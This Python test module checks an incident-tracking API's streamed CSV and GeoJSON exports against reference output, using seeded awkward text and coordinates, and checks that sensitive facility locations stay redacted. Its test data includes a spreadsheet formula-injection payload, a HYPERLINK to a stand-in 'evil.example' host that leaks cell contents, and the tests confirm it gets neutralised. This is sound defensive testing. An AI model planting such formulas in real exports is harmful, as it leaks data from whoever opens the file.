"""Awkward values through the exports that PostgreSQL writes (api/export_sql.py).

The streamed exports must stay exactly what the straightforward Python paths give:

- CSV: byte for byte `export_row()` written by csv.writer (`reference_csv()` of
  tests/api/test_export_batches.py), public and staff, in several orderings, also
  with batches of 7 (`CSV_BATCH`, `GEOJSON_BATCH`) inside runs of equal keys;
- GeoJSON: each feature's properties the JSON list item of the same incident, its id the
  code, its point the list item's (public or staff) coordinates, the features the list's
  located, non-aggregate incidents in the same order;
- redaction: the public exports never show the real place of an incident that targets
  a sensitive facility, nor that facility's name.

The incidents are generated deterministically (a seeded random.Random, no hypothesis):
text needing every kind of quoting and escaping, control characters, Arabic and emoji,
a 5,000-character summary; whole, negative, zero, long and tiny coordinates (down
to the exponent forms `1e-05`); timestamps with and without microseconds, many of
them equal; casualty rows of many keys with and without a best estimate; hypotheses
numbered out of insertion order; weapons and targets inserted out of code order;
incidents without a place, without a point, without a governorate; aggregate records;
drafts, in-review and withdrawn incidents (staff only).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import json
import random
import re
from dataclasses import dataclass, field
from typing import Any

import pgtrigger
import pytest
from django.http import QueryDict
from rest_framework.test import APIClient

from api import exports
from api.filters import run_incident_filter
from incidents import services
from incidents.importers.civtrack_csv import (
    CASUALTY_KEYS,
    CSV_COLUMNS,
    ROW_COLUMNS,
    TEXT_COLUMNS,
)
from incidents.models import (
    Attribution,
    Confidence,
    ExternalRef,
    GeoPrecision,
    Incident,
    IncidentTarget,
    IncidentWeapon,
    Location,
)
from incidents.spreadsheet import TRIGGERS, spreadsheet_unescape
from tests.api.conftest import CANARIES
from tests.api.test_export_batches import body, reference_csv
from tests.factories import (
    ActorFactory,
    FacilityFactory,
    SourceFactory,
    TargetTypeFactory,
    UserFactory,
    WeaponTypeFactory,
    make_incident,
    researcher,
)

pytestmark = pytest.mark.django_db

LIST = "/api/v1/incidents/"
SEED = 20_240_817
GENERATED = 24  # incidents from the seeded generator, besides the hand-written ones

# Restricted values of this module's sensitive facility and the real place behind it:
# no public export may contain them (the world fixture's CANARIES are checked too).
FUZZ_CANARIES = {
    "real_place": "fuzz-canary-hamlet-4471",
    "real_place_name": "FUZZ-CANARY-HAMLET-4471",
    "real_place_ar": "قرية-الكناري-٤٤٧١",
    "real_lat": "35.9871113",
    "real_lon": "36.5431117",
    "facility_name": "FUZZ-CANARY-CLINIC-3390",
    "facility_name_ar": "عيادة-الكناري-٣٣٩٠",
    "facility_lat": "35.9874449",
    "facility_lon": "36.5434441",
}

CONTROL = "".join(chr(c) for c in range(1, 32))  # \x01–\x1f (PostgreSQL refuses NUL)
LONG_SUMMARY = ('Line, with "quotes"\r\nand a comma; ' * 200)[:5000]
LONG_SUMMARY_AR = ('نص عربي طويل، مع «علامات» و"اقتباس"\n' * 200)[:5000]

# (title, summary): every kind of text a CSV writer or a JSON encoder has to get right.
HAND_WRITTEN = [
    ('Shelling, "heavy"', 'a,b,"c"'),
    ('"', '"'),  # a lone quote
    (",", ","),  # only a comma
    ("CR\ronly", "LF\nonly"),
    ("CRLF\r\nline", "\r\n"),
    ("tab\tseparated\tvalues", "\t"),
    (f"ctl{CONTROL}end", CONTROL),
    ('back\\slash \\" \\n \\r \\\\', "\\"),
    ('قصف على "السوق"، حلب', "غارة جوية\r\nعلى المستشفى، «الأمل»"),
    ("💥 strike 👩🏽‍⚕️ 🇸🇾", "emoji 😀,😀"),
    ("  leading and trailing  ", "   "),
    ("x" * 500, LONG_SUMMARY),  # the longest title and a 5,000-character summary
    ("Empty summary", ""),
    ('""', '"",""'),
    ('ends with a quote"', ",starts with a comma"),
    ("\u2028line separator \x85 NEL \u00a0 nbsp \ufeff bom \x7f del", "\u200f\u200e"),
    ("%s %(name)s {0} %%", "E'\\x41' $1 ?"),
    ("NULL", "null"),
    ("0042", "-0"),
    ("semicolons; ;; ;", ";"),
    # Spreadsheet formulas (API.md "Safe to open in a spreadsheet"): each trigger first.
    ('=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1 plus"),
    ("-2", "-2"),
    ("@SUM(A1)", "\t=tab then a formula"),
    ("\rcarriage return first", "'=already quoted"),
    ("'quoted", "''=twice"),
    ("'", "'-"),
]

# Pieces the generator strings together.
PIECES = [
    ",",
    "=",
    "+",
    "-",
    "@",
    '"',
    "'",
    "\r",
    "\n",
    "\r\n",
    "\t",
    "\\",
    "\\n",
    ";",
    " ",
    "  ",
    "%s",
    "قصف",
    "مستشفى،",
    "«السوق»",
    "💥",
    "👨‍👩‍👧",
    "\u200f",
    "\u2028",
    "\u00a0",
    "é",
    "naïve",
    "1e5",
    "strike",
    "market",
    "Idleb",
    *CONTROL,
]

# Public points (lat, lon), all within the model's ranges (-90..90, -180..180).
COORDINATES = [
    (36.0, 37.0),  # whole numbers
    (35.123456789012, 36.987654321098),  # many decimals
    (-0.5, -0.25),  # negative
    (0.0, -0.0),  # zero (psycopg2 sends -0.0 as `-0.0`, a numeric: stored as 0)
    (36.000001, 37.0000001),  # tiny fractional parts
    (0.0001, 0.00011),  # the last plain form
    (1e-05, 36.5),  # the exponent form of str(float)
    (-2.5e-07, 35.0),
    (34.123456789012344, 38.1),  # 17 significant digits
    (0.1 + 0.2, 36.3),  # 0.30000000000000004
    (90.0, -180.0),  # the limits
    (-90.0, 180.0),
    (33.3333333333333, 36.6666666666667),
    (35.5, 36.25),
]

# updated_at / published_at values (UTC): with and without microseconds, many equal.
UTC = dt.UTC
STAMPS = [
    dt.datetime(2020, 1, 1, 0, 0, 0, tzinfo=UTC),
    dt.datetime(2020, 1, 1, 0, 0, 0, 1, tzinfo=UTC),
    dt.datetime(2020, 1, 1, 0, 0, 0, 999_999, tzinfo=UTC),
    dt.datetime(2021, 6, 30, 23, 59, 59, 100_000, tzinfo=UTC),
    dt.datetime(1999, 12, 31, 23, 59, 59, 10, tzinfo=UTC),
    *[dt.datetime(2022, 2, 2, 2, 2, 2, tzinfo=UTC)] * 4,
    *[dt.datetime(2022, 2, 2, 2, 2, 2, 500_000, tzinfo=UTC)] * 4,
]
DATES = [dt.date(2016, 2, 15), dt.date(2016, 2, 15), dt.date(2013, 8, 21)]

P = services.IncidentParts


@dataclass
class Fuzz:
    codes: dict[str, str] = field(default_factory=dict)
    objects: dict[str, Any] = field(default_factory=dict)


def _text(rng: random.Random, pieces: int) -> str:
    return "".join(rng.choice(PIECES) for _ in range(pieces))


def _casualty_rows(rng: random.Random) -> list[services.CasualtyRowData]:
    """Rows of random keys that pass validation: subgroup minimums stay under the
    civilians' maximum (≥ 50), status groups' minimums under everyone's (≥ 100)."""
    keys = rng.sample(CASUALTY_KEYS, rng.choice([0, 0, 1, 2, 3, 5, 8, 13]))
    rows = []
    for group, outcome in keys:
        low = rng.choice([0, 0, 1, 3, 20])
        high = low + rng.choice([0, 0, 1, 7, 30])
        if group == "civilians":
            high = max(high, 50)
        if group == "all":
            high = max(high, 100)
        best = rng.choice([None, None, low, high, (low + high) // 2])
        rows.append(services.CasualtyRowData(group, outcome, low, high, best=best))
    return rows


def _attributions(rng: random.Random, actors: list) -> list[services.AttributionData]:
    A = services.AttributionData
    a, b, c, d = rng.sample(actors, 4)
    guess = [Confidence.LIKELY, Confidence.POSSIBLE, Confidence.CONTESTED]
    positions = [p.value for p in Attribution.Position]
    pattern = rng.choice(["none", "certain", "hypotheses", "mixed", "gaps", "roles"])
    if pattern == "none":
        return []
    if pattern == "certain":
        return [
            A(actor=x, confidence=rng.choice(list(Confidence)))
            for x in (a, b, c)[: rng.randint(1, 3)]
        ]
    if pattern == "hypotheses":  # numbered 2, 1, 2: out of insertion order
        return [
            A(actor=a, alternative=2, confidence=rng.choice(guess)),
            A(actor=b, alternative=1, confidence=rng.choice(guess)),
            A(actor=c, alternative=2, position=rng.choice(positions)),
        ]
    if pattern == "mixed":  # alternatives 2, None, 1 and a non-perpetrator
        return [
            A(actor=a, alternative=2),
            A(actor=b, confidence=Confidence.CONFIRMED),
            A(actor=c, alternative=1, confidence=Confidence.POSSIBLE),
            A(actor=d, role=Attribution.Role.ASSOCIATED),
        ]
    if pattern == "gaps":  # 3 and 1
        return [A(actor=a, alternative=3), A(actor=b, alternative=1)]
    return [  # other roles only, then a perpetrator
        A(actor=a, role=Attribution.Role.ASSOCIATED),
        A(actor=b, role=Attribution.Role.TARGET),
        A(actor=a, position=rng.choice(positions)),
    ]


@pytest.fixture
def fuzz(world) -> Fuzz:
    """`world` plus ~60 generated incidents (see the module docstring)."""
    rng = random.Random(SEED)  # noqa: S311 (test data, not secrets)
    f = Fuzz()
    syria, idleb = world.objects["syria"], world.objects["idleb"]
    district = Location.objects.create(
        slug="fuzz-district",
        name='Fuzz "District", north',
        name_ar="منطقة، «الاختبار»",
        level=Location.Level.DISTRICT,
        parent=idleb,
        latitude=35.0,
        longitude=36.0,
    )
    whole = Location.objects.create(
        slug="fuzz-whole",
        name="Whole, town",
        name_ar='بلدة "كاملة"',
        level=Location.Level.COMMUNITY,
        parent=district,
        latitude=36.0,
        longitude=37.0,
    )
    hamlet = Location.objects.create(
        slug=FUZZ_CANARIES["real_place"],
        name=FUZZ_CANARIES["real_place_name"],
        name_ar=FUZZ_CANARIES["real_place_ar"],
        level=Location.Level.COMMUNITY,
        parent=district,
        latitude=float(FUZZ_CANARIES["real_lat"]),
        longitude=float(FUZZ_CANARIES["real_lon"]),
    )
    orphan = Location.objects.create(  # no governorate above it
        slug="fuzz-orphan",
        name='Orphan "place"',
        level=Location.Level.COMMUNITY,
        parent=syria,
        latitude=34.5,
        longitude=38.25,
    )
    f.objects.update(district=district, whole=whole, hamlet=hamlet, orphan=orphan)

    # Created in an order that is not the code / slug order.
    actors = [
        ActorFactory(slug="fz-zeta", name='Zeta "Z", brigade', name_ar="كتيبة، زيتا"),
        ActorFactory(slug="fz-alpha", name="Alpha\tforces", name_ar=""),
        ActorFactory(slug="fz-mu", name="Mu 💥", name_ar="مو"),
        ActorFactory(slug="fz-beta", name="Beta\r\nunit", name_ar="بيتا\nوحدة"),
        ActorFactory(slug="fz-eta", name="Eta", name_ar="إيتا"),
    ]
    weapons = [
        WeaponTypeFactory(code=code)
        for code in ("zz-mortar", "aa-rifle", "mm-drone", "bb-vbied")
    ]
    target_types = [
        TargetTypeFactory(code=code) for code in ("zz-school", "aa-clinic", "mm-bakery")
    ]
    public_facility = services.facility_save(
        facility=FacilityFactory.build(
            slug="fuzz-bakery",
            name='Bakery "Al-Amal", east',
            name_ar="مخبز، «الأمل»",
            target_type=target_types[2],
            location=whole,
        )
    )
    sensitive = services.facility_save(
        facility=FacilityFactory.build(
            slug="fuzz-canary-clinic",
            name=FUZZ_CANARIES["facility_name"],
            name_ar=FUZZ_CANARIES["facility_name_ar"],
            target_type=target_types[1],
            location=hamlet,
            latitude=float(FUZZ_CANARIES["facility_lat"]),
            longitude=float(FUZZ_CANARIES["facility_lon"]),
            sensitive=True,
        )
    )
    f.objects.update(public_facility=public_facility, sensitive=sensitive)
    sources = [
        world.objects["public_source"],
        world.objects["confidential"],
        SourceFactory(title='Another, "public" report'),
    ]
    author = UserFactory(role="researcher")
    claims = ["occurrence", "date", "location", "casualties", "attribution"]
    certainties = [c.value for c in IncidentWeapon.Certainty]
    damages = [d.value for d in IncidentTarget.Damage]
    systems = [s.value for s in ExternalRef.System]
    gradings = [g.value for g in Incident.Grading]

    texts = [*HAND_WRITTEN]
    for _ in range(GENERATED):
        title = "T" + _text(rng, rng.randint(0, 25))  # never blank once stripped
        texts.append((title, _text(rng, rng.randint(0, 60))))

    created: list[Incident] = []
    for index, (title, summary) in enumerate(texts):
        # The first len(COORDINATES) incidents carry every point to the public exports
        # (published, located, not aggregate, not discounted); the others vary freely.
        located = index < len(COORDINATES)
        place = rng.choice(["point", "point", "point", "none", "no-point", "orphan"])
        if located:
            place = rng.choice(["point", "orphan"])
        lat, lon = COORDINATES[index % len(COORDINATES)]
        location = {"none": None, "orphan": orphan}.get(place, whole)
        if place in ("none", "no-point"):
            lat = lon = None
        start = rng.choice([*DATES, dt.date(2011 + index % 14, 1 + index % 12, 28)])
        status = Incident.Status.PUBLISHED
        if not located and index % 11 == 3:
            status = Incident.Status.DRAFT
        elif not located and index % 17 == 5:
            status = Incident.Status.IN_REVIEW
        elif index == 29:
            status = Incident.Status.WITHDRAWN
        grading = rng.choice(gradings)
        if located and grading == Incident.Grading.DISCOUNTED:
            grading = Incident.Grading.CONTESTED
        targets = [
            services.TargetData(
                target_type=t,
                facility=public_facility if t == target_types[2] else None,
                damage=rng.choice(damages),
            )
            for t in rng.sample(target_types, rng.randint(0, 3))
        ]
        incident = make_incident(
            by=author,
            status=status,
            title=title,
            title_ar=_text(rng, rng.randint(0, 8)) if index % 3 else "",
            summary=summary,
            summary_ar=LONG_SUMMARY_AR if index == 11 else _text(rng, 5),
            date_start=start,
            date_end=start + dt.timedelta(days=rng.choice([0, 0, 1, 30])),
            date_precision=rng.choice(["day", "day", "days", "month", "year"]),
            time_of_day=rng.choice([t.value for t in Incident.TimeOfDay]),
            location=location,
            latitude=lat,
            longitude=lon,
            geo_precision=rng.choice([g.value for g in GeoPrecision]),
            aggregate=not located and index % 9 == 4,
            grading=grading,
            parts=P(
                casualty_rows=_casualty_rows(rng),
                attributions=_attributions(rng, actors),
                weapons=[
                    services.WeaponData(weapon=w, certainty=rng.choice(certainties))
                    for w in rng.sample(weapons, rng.randint(0, 4))
                ],
                targets=targets,
                citations=[
                    services.CitationData(
                        source=s, supports=rng.sample(claims, rng.randint(0, 2))
                    )
                    for s in rng.sample(sources, rng.randint(0, 3))
                ],
                external_refs=[
                    services.ExternalRefData(
                        rng.choice(systems), f'fz-{index}-{k}, "ref" رقم'
                    )
                    for k in range(rng.randint(0, 2))
                ],
            ),
        )
        created.append(incident)

    # Incidents that target the sensitive facility: the public sees the district only.
    for name, status, point in (
        ("sensitive", Incident.Status.PUBLISHED, True),
        ("sensitive_no_point", Incident.Status.PUBLISHED, False),
        ("sensitive_draft", Incident.Status.DRAFT, True),
    ):
        incident = make_incident(
            by=author,
            status=status,
            title=f'Strike on a clinic, "{name}"',
            summary="The clinic was hit,\r\ntwice.",
            date_start=dt.date(2016, 2, 15),
            location=hamlet,
            latitude=float(FUZZ_CANARIES["real_lat"]) if point else None,
            longitude=float(FUZZ_CANARIES["real_lon"]) if point else None,
            geo_precision="exact",
            grading="fair",
            parts=P(
                casualty_rows=[services.CasualtyRowData("civilians", "killed", 0, 0)],
                attributions=[services.AttributionData(actor=actors[0])],
                targets=[
                    services.TargetData(target_type=target_types[0]),
                    services.TargetData(
                        target_type=target_types[1],
                        facility=sensitive,
                        damage="destroyed",
                    ),
                    services.TargetData(
                        target_type=target_types[2], facility=public_facility
                    ),
                ],
                citations=[services.CitationData(source=sources[1])],
            ),
        )
        created.append(incident)
        f.codes[name] = incident.code

    # Timestamps the services would not give: whole seconds, single microseconds, runs
    # of equal values (the version trigger would stamp now() over them).
    with pgtrigger.ignore("incidents.Incident:incident_version_bump"):
        for index, incident in enumerate(created):
            changes: dict[str, Any] = {"updated_at": STAMPS[index % len(STAMPS)]}
            if incident.published_at is not None or incident.status in (
                Incident.Status.PUBLISHED,
                Incident.Status.WITHDRAWN,
            ):
                changes["published_at"] = STAMPS[(index * 5 + 2) % len(STAMPS)]
            Incident.objects.filter(pk=incident.pk).update(**changes)
    f.objects["created"] = created
    return f


# ---------------------------------------------------------------------------------------
# Helpers: clients, references and readable differences
# ---------------------------------------------------------------------------------------


def staff_client() -> tuple[APIClient, Any]:
    user = researcher()
    client = APIClient()
    client.force_authenticate(user)
    return client, user


def expected_csv(query: str, user, *, bom: bool = False) -> bytes:
    result = run_incident_filter(QueryDict(query), user=user)
    return reference_csv(result.queryset.order_by(*result.keyset.order_by()), bom=bom)


def _rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8", "replace").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def csv_difference(got: bytes, expected: bytes) -> str:
    """Where two CSV exports part: the first differing byte with its surroundings, and
    the first differing row's code and cells."""
    if got == expected:
        return ""
    at = next(
        (i for i, (a, b) in enumerate(zip(got, expected, strict=False)) if a != b),
        min(len(got), len(expected)),
    )
    codes = re.findall(rb"(?:^|\r\n)(SY-[0-9]{4}-[0-9]{5,}),", expected[:at])
    lines = [
        f"first difference at byte {at} (got {len(got)} bytes, expected "
        f"{len(expected)}), in the line of {codes[-1].decode() if codes else 'the header'}",
        f"  got:      {got[max(0, at - 40) : at + 40]!r}",
        f"  expected: {expected[max(0, at - 40) : at + 40]!r}",
    ]
    got_rows, expected_rows = _rows(got), _rows(expected)
    for g, e in itertools.zip_longest(got_rows, expected_rows, fillvalue=[]):
        if g != e:
            code = (e or g or ["?"])[0]
            cells = [
                (CSV_COLUMNS[j] if j < len(CSV_COLUMNS) else j, gv, ev)
                for j, (gv, ev) in enumerate(itertools.zip_longest(g, e))
                if gv != ev
            ]
            lines.append(f"  row {code}: (column, got, expected) {cells[:5]!r}")
            break
    return "\n".join(lines)


MISSING = "<missing>"


def dict_difference(got: dict, expected: dict) -> dict[str, tuple[Any, Any]]:
    keys = sorted(set(got) | set(expected))
    return {
        k: (got.get(k, MISSING), expected.get(k, MISSING))
        for k in keys
        if got.get(k, MISSING) != expected.get(k, MISSING)
    }


def geojson(client, query: str) -> dict[str, Any]:
    response = client.get(f"{LIST}?{query}&format=geojson")
    assert response.status_code == 200
    collection = json.loads(body(response))
    assert collection["type"] == "FeatureCollection"
    return collection


def listed(client, query: str) -> list[dict[str, Any]]:
    response = client.get(f"{LIST}?{query}&page_size=1000")
    assert response.status_code == 200
    data = response.json()
    assert data["next"] is None  # every item on one page
    return data["results"]


def report(problems: list[str], limit: int = 12) -> str:
    shown = "\n".join(problems[:limit])
    more = len(problems) - limit
    return shown + (f"\n… and {more} more" if more > 0 else "")


CSV_QUERIES = [
    "",
    "ordering=code",
    "ordering=-civilians_killed_max",
    "ordering=civilians_killed_max",
    "ordering=updated_at",
    "ordering=-updated_at",
    "has_coordinates=false",
]
GEOJSON_QUERIES = ["", "lang=ar", "fields=code,perpetrators,targets,location"]
BATCHES = [None, 7]  # the module's default, and small batches inside equal keys


# ---------------------------------------------------------------------------------------
# CSV
# ---------------------------------------------------------------------------------------


def _csv_problems(client, user, monkeypatch) -> list[str]:
    problems = []
    default = exports.CSV_BATCH
    for batch, query in itertools.product(BATCHES, CSV_QUERIES):
        monkeypatch.setattr("api.exports.CSV_BATCH", batch or default)
        got = body(client.get(f"{LIST}?{query}&format=csv"))
        difference = csv_difference(got, expected_csv(query, user))
        if difference:
            problems.append(f"[{query or 'default'}, batch {batch}] {difference}")
    return problems


def _check_csv_reads_back(client, user) -> bytes:
    """The fixture's values reach the export (so the byte comparisons compare what this
    module means to test): every title and summary read back by csv.reader, one row per
    incident, the timestamps and coordinates the fixture planted."""
    data = body(client.get(f"{LIST}?format=csv"))
    rows = _rows(data)
    assert rows[0] == CSV_COLUMNS
    # Text cells come spreadsheet-safe; the importer's inverse gives the values back.
    got = {
        row[0]: (spreadsheet_unescape(row[2]), spreadsheet_unescape(row[4]))
        for row in rows[1:]
    }
    result = run_incident_filter(QueryDict(""), user=user)
    expected = {
        code: tuple(v)
        for code, *v in result.queryset.values_list("code", "title", "summary")
    }
    assert got == expected
    assert len(rows) - 1 == len(expected)
    for planted in (
        b",2020-01-01T00:00:00+00:00,",
        b",2020-01-01T00:00:00.000001+00:00,",
        b",2022-02-02T02:02:02.500000+00:00,",
        b",0.0,0.0,",
        b",1e-05,",
        b",-2.5e-07,",
        b",0.30000000000000004,",
        b",35.123456789012,",
    ):
        assert planted in data, planted
    return data


def test_public_csv_is_export_row_byte_for_byte(client, fuzz, monkeypatch):
    problems = _csv_problems(client, None, monkeypatch)
    assert not problems, report(problems)

    monkeypatch.setattr("api.exports.CSV_BATCH", exports.CSV_BATCH)
    _check_csv_reads_back(client, None)
    titles = set(Incident.objects.values_list("title", flat=True))
    assert {t for t, _ in HAND_WRITTEN} <= titles


def test_staff_csv_is_export_row_byte_for_byte(fuzz, monkeypatch):
    client, user = staff_client()
    problems = _csv_problems(client, user, monkeypatch)

    got = body(client.get(f"{LIST}?format=csv&bom=1"))
    difference = csv_difference(got, expected_csv("", user, bom=True))
    if difference:
        problems.append(f"[bom=1] {difference}")
    assert not problems, report(problems)

    data = _check_csv_reads_back(client, user)
    for name in ("sensitive_draft",):
        assert fuzz.codes[name].encode() in data
    assert b",draft," in data
    assert b",in_review," in data
    assert b",withdrawn," in data


def test_the_sql_and_the_reference_agree_on_which_columns_are_text():
    from api.export_sql import _CSV_SOURCE

    decided_by_type = [
        c
        for c in CSV_COLUMNS
        if c not in ROW_COLUMNS
        and (
            "." in _CSV_SOURCE.get(c, c)
            or Incident._meta.get_field(_CSV_SOURCE.get(c, c)).get_internal_type()
            in ("CharField", "TextField")
        )
    ]

    assert decided_by_type == TEXT_COLUMNS


def test_csv_text_cells_never_open_as_formulas(client, fuzz):
    """Every text cell of the export begins with no spreadsheet trigger, or with the
    `'` that neutralises one; numeric cells keep their sign (`-0.5` stays a number)."""
    rows = _rows(body(client.get(f"{LIST}?format=csv")))
    header, lines = rows[0], rows[1:]
    text = [header.index(c) for c in TEXT_COLUMNS]

    for line in lines:
        for index in text:
            cell = line[index]
            if cell[:1] == "'":
                assert cell[1:2] in TRIGGERS, (header[index], cell)
            else:
                assert cell[:1] not in TRIGGERS, (header[index], cell)
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    assert ["'" + hostile, "'+1 plus"] in [
        [line[header.index("title")], line[header.index("summary")]] for line in lines
    ]
    assert ["'-2", "'-2"] in [
        [line[header.index("title")], line[header.index("summary")]] for line in lines
    ]
    assert "-0.5" in [line[header.index("latitude")] for line in lines]


# ---------------------------------------------------------------------------------------
# GeoJSON (the lead's SQL path: api/export_sql.py)
# ---------------------------------------------------------------------------------------


def _geojson_property_problems(client, monkeypatch) -> list[str]:
    problems = []
    default = exports.GEOJSON_BATCH
    for batch, query in itertools.product(BATCHES, GEOJSON_QUERIES):
        monkeypatch.setattr("api.exports.GEOJSON_BATCH", batch or default)
        where = f"[{query or 'default'}, batch {batch}]"
        try:
            features = geojson(client, query)["features"]
        except (ValueError, AssertionError) as error:
            problems.append(f"{where} the body is not a FeatureCollection: {error}")
            continue
        by_code = {item["code"]: item for item in listed(client, query)}
        if not features:
            problems.append(f"{where} no features")
        for feature in features:
            item = by_code.get(feature.get("id"))
            if item is None:
                problems.append(f"{where} {feature.get('id')}: not in the list")
                continue
            difference = dict_difference(feature.get("properties") or {}, item)
            if difference:
                problems.append(
                    f"{where} {feature['id']}: (feature, list item) {difference!r}"
                )
    return problems


def test_geojson_sql_public_properties_are_the_list_items(client, fuzz, monkeypatch):
    problems = _geojson_property_problems(client, monkeypatch)
    assert not problems, report(problems)


def test_geojson_sql_staff_properties_are_the_list_items(fuzz, monkeypatch):
    client, _user = staff_client()
    problems = _geojson_property_problems(client, monkeypatch)
    assert not problems, report(problems)


def test_geojson_sql_features_are_the_located_list(client, fuzz, monkeypatch):
    """The features are the list's located, non-aggregate incidents in list order,
    each `{"type": "Feature", "id": code, "geometry": Point [lon, lat]}` of the list
    item's (public or staff) point."""
    staff, _user = staff_client()
    problems = []
    for who, http in (("public", client), ("staff", staff)):
        for batch in BATCHES:
            if batch:
                monkeypatch.setattr("api.exports.GEOJSON_BATCH", batch)
            for query in ("", "ordering=updated_at", "ordering=-civilians_killed_max"):
                where = f"[{who}, {query or 'default'}, batch {batch}]"
                features = geojson(http, query)["features"]
                located = listed(http, f"{query}&has_coordinates=true&aggregate=false")
                got = [feature["id"] for feature in features]
                expected = [item["code"] for item in located]
                if got != expected:
                    problems.append(f"{where} codes {got!r} != list {expected!r}")
                    continue
                for feature, item in zip(features, located, strict=True):
                    shape = {
                        "type": "Feature",
                        "id": item["code"],
                        "geometry": {
                            "type": "Point",
                            "coordinates": [item["longitude"], item["latitude"]],
                        },
                    }
                    difference = dict_difference(
                        {k: feature.get(k, MISSING) for k in (*shape, "properties")},
                        {**shape, "properties": item},
                    )
                    if difference:
                        problems.append(f"{where} {item['code']}: {difference!r}")
    assert not problems, report(problems)
    # The fixture's coordinates made it into the export.
    public = json.dumps(geojson(client, "")["features"])
    for lat, lon in COORDINATES:
        assert (
            json.dumps([lon + 0.0, lat + 0.0]) in public
        )  # + 0.0: -0.0 is stored as 0


def _typed(value: Any) -> str:
    """JSON with its number types kept (json.loads equality says 36 == 36.0 and
    0 == -0.0, which a consumer of the export may not)."""
    return json.dumps(value, sort_keys=True, ensure_ascii=False)


def test_geojson_sql_numbers_keep_their_json_types(client, fuzz):
    """Stricter than ==: the same JSON text once re-encoded, so an integer `36` for
    `36.0`, `0` for `-0.0` or `"36.0"` for a number shows here."""
    staff, _user = staff_client()
    problems = []
    for who, http in (("public", client), ("staff", staff)):
        by_code = {item["code"]: item for item in listed(http, "")}
        for feature in geojson(http, "")["features"]:
            item = by_code[feature["id"]]
            point = [item["longitude"], item["latitude"]]
            if _typed(feature["geometry"]["coordinates"]) != _typed(point):
                problems.append(
                    f"[{who}] {item['code']} geometry "
                    f"{_typed(feature['geometry']['coordinates'])} != {_typed(point)}"
                )
            for key, value in item.items():
                got = feature["properties"].get(key, MISSING)
                if _typed(got) != _typed(value):
                    problems.append(
                        f"[{who}] {item['code']} {key}: {_typed(got)} != {_typed(value)}"
                    )
    assert not problems, report(problems)


# ---------------------------------------------------------------------------------------
# Redaction
# ---------------------------------------------------------------------------------------


def test_public_exports_never_show_the_sensitive_place(client, fuzz):
    restricted = {**FUZZ_CANARIES}
    restricted.update(
        {
            f"world_{k}": v
            for k, v in CANARIES.items()
            if k
            in (
                "facility_name",
                "facility_name_ar",
                "facility_lat",
                "facility_lon",
                "real_place",
                "real_lat",
                "real_lon",
                "draft_title",
                "internal_notes",
                "confidential_source",
            )
        }
    )
    outputs = {
        f"{fmt}?{query}": body(client.get(f"{LIST}?{query}&format={fmt}"))
        for fmt in ("csv", "geojson")
        for query in ("", "lang=ar", "ordering=code", "has_coordinates=true")
        if not (fmt == "csv" and query == "lang=ar")
    }
    leaks = [
        f"{name} ({value!r}) in {where}"
        for where, data in outputs.items()
        for name, value in restricted.items()
        if value.encode() in data
    ]
    assert not leaks, leaks

    district = fuzz.objects["district"]
    code = fuzz.codes["sensitive"]
    # CSV: the district as the place, its centroid as the point.
    rows = {row[0]: row for row in _rows(outputs["csv?"])[1:]}
    row = dict(zip(CSV_COLUMNS, rows[code], strict=True))
    assert (row["location"], row["latitude"], row["longitude"]) == (
        district.slug,
        "35.0",
        "36.0",
    )
    assert row["geo_precision"] == "district"
    assert fuzz.codes["sensitive_draft"] not in rows

    # GeoJSON: the district's point and place, the facility's ref without its name.
    features = {f["id"]: f for f in json.loads(outputs["geojson?"])["features"]}
    feature = features[code]
    assert feature["geometry"]["coordinates"] == [36.0, 35.0]
    assert feature["properties"]["location"]["slug"] == district.slug
    facilities = [
        t["facility"] for t in feature["properties"]["targets"] if t["facility"]
    ]
    sensitive, public = fuzz.objects["sensitive"], fuzz.objects["public_facility"]
    assert {"ref": sensitive.ref, "name": None} in facilities
    assert {"ref": public.ref, "name": public.name} in facilities
    assert fuzz.codes["sensitive_no_point"] in features  # the district's point
    arabic = json.loads(outputs["geojson?lang=ar"])["features"]
    sensitive_ar = next(f for f in arabic if f["id"] == code)
    assert {"ref": sensitive.ref, "name": None} in [
        t["facility"] for t in sensitive_ar["properties"]["targets"]
    ]

    # Staff see the real point and name: the canaries above were reachable.
    staff, _user = staff_client()
    staff_features = {f["id"]: f for f in geojson(staff, "")["features"]}
    real = staff_features[code]
    assert real["geometry"]["coordinates"] == [
        float(FUZZ_CANARIES["real_lon"]),
        float(FUZZ_CANARIES["real_lat"]),
    ]
    assert real["properties"]["location"]["slug"] == FUZZ_CANARIES["real_place"]
    assert {"ref": sensitive.ref, "name": FUZZ_CANARIES["facility_name"]} in [
        t["facility"] for t in real["properties"]["targets"]
    ]
    assert fuzz.codes["sensitive_draft"] in staff_features
